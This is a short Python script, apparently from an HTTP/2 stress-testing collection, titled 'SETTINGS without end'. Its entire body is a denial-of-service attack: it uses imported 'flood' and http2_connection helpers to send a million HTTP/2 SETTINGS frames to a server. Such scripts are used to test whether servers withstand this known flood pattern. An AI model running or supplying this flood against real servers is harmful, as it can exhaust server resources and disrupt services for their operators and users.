"""SETTINGS without end."""

import flood
from http2_connection import SETTINGS, frame

if __name__ == "__main__":
    flood.main([frame(SETTINGS, 0, 0, b"\0\4\0\0\xff\xff") * 1_000] * 1_000)
